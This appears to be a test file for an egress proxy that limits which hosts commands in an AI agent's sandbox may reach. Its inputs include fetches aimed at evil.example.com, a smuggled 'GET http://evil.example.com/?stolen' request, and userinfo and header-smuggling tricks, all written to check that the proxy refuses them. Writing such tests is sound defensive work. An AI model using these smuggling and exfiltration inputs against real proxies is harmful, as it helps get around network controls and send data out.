"""Hosts that a command in the sandbox may reach, and no others: by a proxy that asks for each."""

import asyncio
import socket

import pytest
from support.hosts import host, run
from support.sheltered import BASH

from bridle import Runtime, RuntimeConfig, ScriptedModel, Settings, call
from bridle.assembly.user_setup import UserSetup
from bridle.config.settings import SandboxSettings
from bridle.core.inbox import TurnOptions
from bridle.core.parts import Call
from bridle.process.egress_proxy import REFUSED, Asked, EgressProxy

FETCH = "python3 -c \"import urllib.request as u; print(u.urlopen('http://{}:{}/x').read().decode())\""
TUNNEL = (
    "python3 -c \"import http.client as h; c = h.HTTPConnection('127.0.0.1', 3128); c.set_tunnel('{}', {}); "
    "c.request('GET', '/x'); print(c.getresponse().read().decode())\""
)


@pytest.mark.parametrize("way", [FETCH, TUNNEL], ids=["plain", "tunnel"])
def test_a_command_reaches_the_hosts_it_was_given(shut_in, port, way):
    name = "pypi.example.com"
    output = run(shut_in, way.format(name, port), host(f"{name}:{port}"), outside=[f"{name}:{port}"])
    assert (output.text, output.failed) == (f"/x for {name}\n", False)


@pytest.mark.parametrize("way", [FETCH, TUNNEL], ids=["plain", "tunnel"])
def test_it_reaches_no_other_and_is_told_how_to_ask(shut_in, port, way):
    command = way.format("evil.example.com", port)
    output = run(shut_in, command, host("pypi.example.com"), outside=["pypi.example.com"])
    assert output.failed
    told = f'the sandbox lets no command reach these hosts; to ask a person: outside: ["evil.example.com:{port}"]'
    assert told in output.text
    # Around the proxy there is no network at all.
    direct = f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\""
    assert "Connection refused" in run(shut_in, direct, host("pypi.example.com"), outside=["pypi.example.com"]).text


def test_hosts_that_were_allowed_for_good_need_no_word(shut_in, port):
    name = "pypi.example.com"
    assert run(shut_in, FETCH.format(name, port), host(f"{name}:{port}"), hosts=True).text == f"/x for {name}\n"
    without = run(shut_in, FETCH.format(name, port), host(name))
    assert without.failed and 'such as outside: ["pypi.org"]' in without.text


def test_a_public_name_that_leads_into_a_private_network_is_no_way_there(shut_in, port):
    name = "rebound.example.com"
    asked = f"{name}:{port}"
    assert run(shut_in, FETCH.format(name, port), host(asked), outside=[asked], private=False).failed
    assert not run(shut_in, FETCH.format(name, port), host(asked), outside=[asked]).failed


def test_a_host_is_asked_about_by_its_name_and_a_folder_stays_a_folder(shut_in):
    (shut_in.project / "static.files").mkdir()
    given = BASH.check({"command": "true", "outside": ["PyPI.org", "static.files", "network", "/opt"]})
    asked = [(access.permission, access.pattern) for access in BASH.accesses(given, shut_in.project)]
    assert asked == [
        ("host", "pypi.org"),
        ("read", "static.files"),
        ("network", "true"),
        ("external_directory", "/opt/*"),
    ]


def test_many_connections_and_much_data_pass_and_nothing_is_left(shut_in, port):
    name = "pypi.example.com"
    many = " & ".join([FETCH.format(name, port)] * 12) + " & wait"
    asked = f"{name}:{port}"
    answered = run(shut_in, many, host(asked), outside=[asked]).text
    # Twelve programs write to one pipe: a line and its end may stand apart.
    assert (answered.count(f"/x for {name}"), answered.count("\n"), answered.count("x")) == (12, 12, 24)


def test_an_always_to_a_host_holds_for_the_next_command(shut_in, port, tmp_path):
    name = "pypi.example.com"
    fetch = {"command": FETCH.format(name, port)}
    model = ScriptedModel([call("bash", **fetch, outside=[f"{name}:{port}"]), "One.", call("bash", **fetch), "Two."])
    settings = Settings(
        sandbox=SandboxSettings(mode="required"), permission={"private_network": "allow", "bash": "allow"}
    )

    async def work():
        async with Runtime(
            RuntimeConfig(
                settings=settings,
                models={"scripted": model},
                tools=[BASH],
                directory=shut_in.project,
                environment=shut_in.environment,
                user=UserSetup(approvals=tmp_path / "approvals.json"),
            )
        ) as runtime:
            session = await runtime.create()
            options = TurnOptions(model="scripted", on_ask="pause")
            first = await runtime.prompt(session, "go", options=options)
            asked = (await runtime.wait(session, first)).asks
            await runtime.answer(session, asked[0].id, "always")
            await runtime.wait(session, first)
            await runtime.wait(session, await runtime.prompt(session, "again", options=options))
            parts = (await runtime.load(session)).parts.values()
            return [ask.text for ask in asked], [part.state.output for part in parts if isinstance(part, Call)]

    assert asyncio.run(work()) == ([f"Allow host: {name}:{port}?"], [f"/x for {name}\n"] * 2)
    assert name in (tmp_path / "approvals.json").read_text()


@pytest.mark.parametrize(
    "line",
    [
        "CONNECT evil.example.com:443@pypi.example.com:443 HTTP/1.1",
        "GET http://pypi.example.com@evil.example.com/ HTTP/1.1",
        "GET https://pypi.example.com/ HTTP/1.1",
        "GET /relative HTTP/1.1",
        "CONNECT pypi.example.com:22 HTTP/1.1",
        "CONNECT 127.0.0.1:443 HTTP/1.1",
        "CONNECT PYPI.example.com.evil.example.com:443 HTTP/1.1",
        "nonsense",
    ],
)
def test_no_way_of_asking_gets_around_the_list(line):
    assert answer_to(f"{line}\r\nHost: pypi.example.com\r\n\r\n".encode()) in (b"", REFUSED)


def answer_to(head):
    """What the proxy answers to the bytes of a request."""

    async def work():
        egress_proxy = EgressProxy(lambda host: host == "pypi.example.com", lambda host: True, {})
        listener = socket.create_server(("127.0.0.1", 0))
        egress_proxy._server = server = await asyncio.start_server(egress_proxy._come, sock=listener)
        reader, writer = await asyncio.open_connection(*listener.getsockname())
        writer.write(head)
        answer = await asyncio.wait_for(reader.read(), 60)
        writer.close()
        server.close()
        await egress_proxy.close()
        await asyncio.sleep(0.1)
        return answer

    return asyncio.run(work())


MALFORMED = {
    "bare LF in a value": b"A: b\nTransfer-Encoding: chunked",
    "bare CR in a value": b"A: b\rTransfer-Encoding: chunked",
    "NUL in a value": b"A: b\0c",
    "escape in a value": b"A: \x1b[0m",
    "folded line": b"A: b\r\n Transfer-Encoding: chunked",
    "line folded by a tab": b"A: b\r\n\tc",
    "blank before the colon": b"Transfer-Encoding : chunked",
    "no colon": b"chunked",
    "no name": b": chunked",
    "name that is no token": b"A(b): c",
    "name that is no ASCII": b"\xc4: c",
    "length with a sign": b"Content-Length: +5",
    "length below zero": b"Content-Length: -5",
    "length with an underscore": b"Content-Length: 1_0",
    "length in hexadecimal": b"Content-Length: 0x5",
    "two lengths": b"Content-Length: 5\r\nContent-Length: 5",
    "list of lengths": b"Content-Length: 5, 5",
    "length that is no ASCII": b"Content-Length: \xd9\xa5",
}


@pytest.mark.parametrize("lines", MALFORMED.values(), ids=MALFORMED)
def test_the_proxy_refuses_a_malformed_head_before_it_reaches_anything(lines):
    with pytest.raises(ValueError):
        Asked.read(b"GET http://pypi.example.com/ HTTP/1.1\r\n" + lines + b"\r\n\r\n")


@pytest.mark.parametrize(
    "line",
    [
        b"GET http://pypi.example.com/\nX: y HTTP/1.1",
        b"GET http://pypi.example.com/\0 HTTP/1.1",
        b"GET http://pypi.example.com/\xe4 HTTP/1.1",
        b"GET http://pypi.exam_ple.com\\.evil.com/ HTTP/1.1",
        b"GET http://pypi%2eexample.com/ HTTP/1.1",
        b"CONNECT pypi.example.com:443/x HTTP/1.1",
        b"CONNECT pypi.example.com:443?x HTTP/1.1",
    ],
)
def test_the_proxy_refuses_a_request_line_with_odd_bytes(line):
    with pytest.raises(ValueError):
        Asked.read(line + b"\r\n\r\n")


def test_the_proxy_answers_a_malformed_head_with_nothing():
    assert answer_to(b"GET http://pypi.example.com/ HTTP/1.1\r\nA: b\nC: d\r\n\r\n") == b""


def test_an_ordinary_head_is_understood():
    head = b"POST http://PyPI.example.com:8080/a?b HTTP/1.1\r\nHost: x\r\nA:\tb \xe4\r\nContent-Length: 5\r\n\r\n"
    asked = Asked.read(head)
    assert (asked.method, asked.host, asked.port, asked.path, asked.length) == (
        *("POST", "pypi.example.com", 8080, "/a?b", 5),
    )
    assert asked.headers == (b"A:\tb \xe4", b"Content-Length: 5")


def test_behind_a_proxy_nothing_but_what_was_allowed_is_passed_on():
    """The proxy refuses the tunnel and keeps the connection; what comes after that must not reach it."""
    heard = []

    async def proxy(reader, writer):
        while line := await reader.readline():
            heard.append(line)
            if line == b"\r\n":
                writer.write(b"HTTP/1.1 502 Bad gateway\r\nContent-Length: 0\r\n\r\n")
                await writer.drain()
        writer.close()

    async def work():
        upstream = await asyncio.start_server(proxy, "127.0.0.1", 0)
        port = upstream.sockets[0].getsockname()[1]
        environment = {"https_proxy": f"http://me:secret@127.0.0.1:{port}"}
        egress_proxy = EgressProxy(lambda host: host == "pypi.example.com", lambda host: True, environment)
        listener = socket.create_server(("127.0.0.1", 0))
        egress_proxy._server = server = await asyncio.start_server(egress_proxy._come, sock=listener)
        reader, writer = await asyncio.open_connection(*listener.getsockname())
        writer.write(
            b"CONNECT pypi.example.com:443 HTTP/1.1\r\n\r\nGET http://evil.example.com/?stolen HTTP/1.1\r\n\r\n"
        )
        await asyncio.wait_for(reader.read(), 60)
        writer.close()
        server.close()
        upstream.close()
        await egress_proxy.close()
        await asyncio.sleep(0.1)

    asyncio.run(work())
    whole = b"".join(heard)
    assert b"CONNECT pypi.example.com:443" in whole and b"Basic bWU6c2VjcmV0" in whole
    assert b"evil" not in whole
